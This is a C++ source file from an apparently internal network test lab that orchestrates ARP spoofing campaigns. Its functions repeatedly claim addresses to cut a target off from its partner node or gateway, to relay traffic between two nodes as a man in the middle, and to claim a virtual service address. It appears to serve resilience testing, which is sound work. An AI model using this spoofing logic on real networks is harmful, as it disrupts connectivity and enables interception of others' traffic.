#include "lab/campaigns/hostile/ArpSpoofing.h"

#include <thread>

#include "lab/campaigns/hostile/Frames.h"
#include "lab/core/Plan.h"

namespace velarix::lab::hostile
{

namespace
{

void spoofUntilStopped(const AttackParameters& parameters, AttackTally& tally, const ArpSpoof& spoof)
{
	whileSpoofing(spoof, tally, [&] { untilStopped(parameters); });
}

} // namespace

std::string partnersAddress(const AttackParameters& parameters)
{
	return plan::addressOf(otherNode(parameters.target), Network::communication);
}

std::string targetsAddress(const AttackParameters& parameters, Network network)
{
	return plan::addressOf(parameters.target, network);
}

void whileSpoofing(const ArpSpoof& spoof, AttackTally& tally, const std::function<void()>& work)
{
	ArpSpoofer spoofer(spoof.network == Network::service ? plan::serviceInterface : plan::communicationInterface,
	                   spoof.victim);
	const std::jthread thread(
	    [&](const std::stop_token& end)
	    {
		    while (!end.stop_requested())
		    {
			    spoofer.claim(spoof.address, tally);
			    std::this_thread::sleep_for(Millis(50));
		    }
	    });
	work();
}

void untilStopped(const AttackParameters& parameters)
{
	while (!parameters.stop)
	{
		std::this_thread::sleep_for(Millis(20));
	}
}

void cutPartner(const AttackParameters& parameters, AttackTally& tally)
{
	spoofUntilStopped(
	    parameters, tally,
	    {Network::communication, targetsAddress(parameters, Network::communication), partnersAddress(parameters)});
}

void relayNodes(const AttackParameters& parameters, AttackTally& tally)
{
	const std::string target = targetsAddress(parameters, Network::communication);
	const std::string partner = partnersAddress(parameters);
	whileSpoofing({Network::communication, target, partner}, tally,
	              [&] {
		              spoofUntilStopped(parameters, tally, {Network::communication, partner, target});
	              });
}

void cutGateway(const AttackParameters& parameters, AttackTally& tally)
{
	spoofUntilStopped(parameters, tally,
	                  {Network::communication, targetsAddress(parameters, Network::communication),
	                   plan::addressOf(HostId::gateway, Network::communication)});
}

void cutFromGateway(const AttackParameters& parameters, AttackTally& tally)
{
	spoofUntilStopped(parameters, tally,
	                  {Network::communication, plan::addressOf(HostId::gateway, Network::communication),
	                   targetsAddress(parameters, Network::communication)});
}

void claimFromClient(const AttackParameters& parameters, AttackTally& tally)
{
	spoofUntilStopped(parameters, tally,
	                  {Network::service, plan::addressOf(HostId::client, Network::service), plan::virtualAddress});
}

void claimFromNode(const AttackParameters& parameters, AttackTally& tally)
{
	spoofUntilStopped(parameters, tally,
	                  {Network::service, targetsAddress(parameters, Network::service), plan::virtualAddress});
}

} // namespace velarix::lab::hostile
